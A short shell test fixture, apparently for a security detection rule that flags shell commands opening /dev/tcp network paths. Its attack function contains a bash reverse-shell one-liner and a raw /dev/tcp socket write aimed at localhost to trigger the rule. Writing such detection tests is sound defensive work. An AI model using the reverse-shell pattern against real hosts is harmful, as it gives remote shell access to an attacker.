# Rule: Shell command opens a network device path
benign() {
    catcher 4110
    /bin/bash -c '(echo > /dev/tcp/127.0.0.1/4110) 2>/dev/null'
}
attack() {
    catcher 4111
    /bin/bash -c 'exec 5<>/dev/tcp/127.0.0.1/4111; echo hello >&5'
    /bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'
}
